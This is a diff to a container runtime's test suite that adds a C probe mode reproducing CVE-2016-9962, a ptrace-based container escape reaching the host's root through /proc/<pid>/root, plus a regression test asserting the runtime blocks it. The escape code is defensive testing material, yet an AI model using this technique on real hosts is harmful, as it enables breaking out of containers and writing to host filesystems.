@@ -30,7 +30,9 @@ const PROBE_C = String.raw`/* Runs inside a container; each mode prints one line
 #include <stdlib.h>
 #include <string.h>
 #include <signal.h>
+#include <sys/ptrace.h>
 #include <sys/stat.h>
+#include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -246,10 +248,57 @@ static int mode_grab(const char *path, double secs) {
   return 1;
 }
 
+/* seize PATH SECONDS: ptrace (CVE-2016-9962) the next processes of this pid namespace, one
+ * after the other (each launch exec's child gets the next pid), as a container's pid 1 with
+ * CAP_SYS_PTRACE. A process that may not be traced (not dumpable) yet is stopped and let go a
+ * few microseconds at a time, so that a moment it is dumpable lasts. Attached to the runtime
+ * (its name is launch's), it makes the directory PATH through /proc/<pid>/root: the host's
+ * root until the process joins the container's mount namespace. Anything else attached (the
+ * container's program, after the exec) is let go. */
+static int mode_seize(const char *path, double secs) {
+  int next = getpid() + 1;
+  printf("ready\n");
+  fflush(stdout);
+  double end = now() + secs;
+  while (now() < end) {
+    int attached = ptrace(PTRACE_SEIZE, next, 0, 0) == 0;
+    if (!attached && errno == ESRCH) {
+      if (kill(next + 1, 0) == 0) next++; /* it is gone, a later one is there */
+      continue;
+    }
+    if (!attached) {
+      kill(next, SIGSTOP);
+      for (int i = 0; i < 50 && !attached; i++) attached = ptrace(PTRACE_SEIZE, next, 0, 0) == 0;
+    }
+    if (attached) {
+      int st;
+      ptrace(PTRACE_INTERRUPT, next, 0, 0);
+      waitpid(next, &st, __WALL);
+      if (is_runtime(next)) {
+        char where[4096];
+        snprintf(where, sizeof where, "/proc/%d/root%s", next, path);
+        int r = mkdir(where, 0755);
+        printf("seized the runtime in pid %d: mkdir %s\n", next, r == 0 ? "made" : ename(errno));
+        fflush(stdout);
+        kill(next, SIGKILL);
+        waitpid(next, &st, __WALL); /* its tracer first, then launch may reap it */
+      } else {
+        ptrace(PTRACE_DETACH, next, 0, 0);
+      }
+      kill(next, SIGCONT);
+      next++;
+      continue;
+    }
+    kill(next, SIGCONT);
+  }
+  return 0;
+}
+
 int main(int argc, char **argv) {
   if (argc >= 4 && !strcmp(argv[1], "grab")) return mode_grab(argv[2], atof(argv[3]));
   if (argc >= 3 && !strcmp(argv[1], "exe")) return mode_exe(atof(argv[2]), argc > 3 && !strcmp(argv[3], "stay"), argc > 3 && !strcmp(argv[3], "step"));
   if (argc >= 2 && !strcmp(argv[1], "fds")) return mode_fds();
+  if (argc >= 4 && !strcmp(argv[1], "seize")) return mode_seize(argv[2], atof(argv[3]));
   /* openw PATH...: open for writing only (no O_CREAT, no O_TRUNC: nothing is changed). */
   if (argc >= 2 && !strcmp(argv[1], "openw")) {
     for (int i = 2; i < argc; i++) {
@@ -268,7 +317,7 @@ int main(int argc, char **argv) {
     }
     return 0;
   }
-  fprintf(stderr, "usage: probe exe SECONDS [stay|step] | grab PATH SECONDS | fds | openw PATH... | mkdir PATH...\n");
+  fprintf(stderr, "usage: probe exe SECONDS [stay|step] | grab PATH SECONDS | seize PATH SECONDS | fds | openw PATH... | mkdir PATH...\n");
   return 2;
 }
 `;
@@ -377,6 +426,53 @@ eachMode('attacks: the runtime binary through /proc/<pid>/exe (CVE-2019-5736)', 
       }
       expect(out).not.toContain(binary);
       expect(out).toMatch(denied);
+    } finally {
+      launchSync(who(), ['kill', id, 'KILL']);
+      await exitOf(attacker);
+      launchSync(who(), ['delete', '--force', id]);
+    }
+  });
+});
+
+// 1a. CVE-2016-9962 (runc exec): a container process that may ptrace launch exec's child
+// (CAP_SYS_PTRACE: as root without a user namespace, the host's) reaches what the child still
+// has of the host. The child forked into the container's pid namespace right after joining the
+// user and pid namespaces, and then waited for its cgroup while its root and cwd were still
+// the host's: /proc/<pid>/root led the container to the host's /. The probe, as the container's
+// pid 1, stops each exec's child as it shows up and makes a directory through its root.
+// Protection: the fork into the pid namespace comes after the mount namespace and the chroot
+// (lib/plan/build.ts buildExecPlan), as runc's nsexec joins everything before its stage-2 fork.
+// Checked: with FORK_INIT back right after the pid join, as root the first exec was seized:
+// `seized the runtime in pid 2: mkdir made`, the directory made on the host, as root.
+eachMode('attacks: an exec\'s child ptraced in the container\'s namespaces (CVE-2016-9962)', ['busybox', 'dist', 'addon'], (mode, skip) => {
+  const who = () => runAs(mode)!;
+
+  it.skipIf(skip)('with CAP_SYS_PTRACE in the container, the exec\'s child never shows the host\'s root', async (ctx) => {
+    if (noProbe) ctx.skip(noProbe);
+    const id = uniq('tracer');
+    const target = join(ownedDir(who(), 'ptrace-escape'), 'made-from-the-container');
+    const bundle = makeBundle(who(), {
+      args: ['/probe/probe', 'seize', target, '60'],
+      edit: (s) => {
+        withProbe(s);
+        s.process!.oomScoreAdj = 100; // up from 0: an ordinary user may
+        const caps = s.process!.capabilities!;
+        for (const set of ['bounding', 'effective', 'permitted'] as const) caps[set] = [...(caps[set] ?? []), 'CAP_SYS_PTRACE'];
+      },
+    });
+    const attacker = launchChild(who(), ['run', '--bundle', bundle, id]);
+    try {
+      let out = '';
+      attacker.stdout!.on('data', (d) => (out += d));
+      await waitFor(attacker.stdout!, 'ready');
+      for (let i = 0; i < 5 && !/^seized /m.test(out); i++) {
+        launchSync(who(), ['exec', id, '/bin/true']);
+        await new Promise((r) => setTimeout(r, 100 * SLOW));
+      }
+      // As root (no user namespace) CAP_SYS_PTRACE is the host's: the child may be seized, as
+      // runc's init may, but only once it is in the container's mount namespace and root.
+      expect(out).not.toMatch(/^seized .*: mkdir made$/m);
+      expect(existsSync(target)).toBe(false);
     } finally {
       launchSync(who(), ['kill', id, 'KILL']);
       await exitOf(attacker);
